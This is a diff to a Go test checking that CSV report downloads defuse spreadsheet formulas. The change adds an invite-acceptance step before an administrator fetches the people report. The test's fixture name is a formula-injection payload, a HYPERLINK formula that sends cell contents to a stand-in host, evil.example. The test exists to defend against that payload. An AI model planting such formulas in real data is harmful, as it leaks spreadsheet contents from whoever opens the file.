@@ -9,7 +9,7 @@ import (
 
 // TestCSVDownloadsRunNoFormulas: a name typed in by one person reaches a
 // CSV another person opens in a spreadsheet (here the people report of an
-// administrator). Every CSV download defuses a cell that would run as a
+// administrator, once the invited person accepted). Every CSV download defuses a cell that would run as a
 // formula, as the contact export does; numbers stay numbers.
 func TestCSVDownloadsRunNoFormulas(t *testing.T) {
 	w := newRouteWorld(t)
@@ -17,6 +17,10 @@ func TestCSVDownloadsRunNoFormulas(t *testing.T) {
 		`{"email":"formula@a.example.org","name":"=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")","role":"viewer"}`)
 	if code != http.StatusCreated {
 		t.Fatalf("invite: %d %s", code, body)
+	}
+	token := inviteLink(t, w.a.cfg.SMTP.CaptureDir, "formula@a.example.org")
+	if _, err := w.a.staff().AcceptInvite(t.Context(), token, "a spreadsheet passphrase 2026"); err != nil {
+		t.Fatal(err)
 	}
 	code, body = w.do(w.tokens["admin"], "GET", "/api/v1/reports/people?format=csv", "")
 	if code != http.StatusOK {
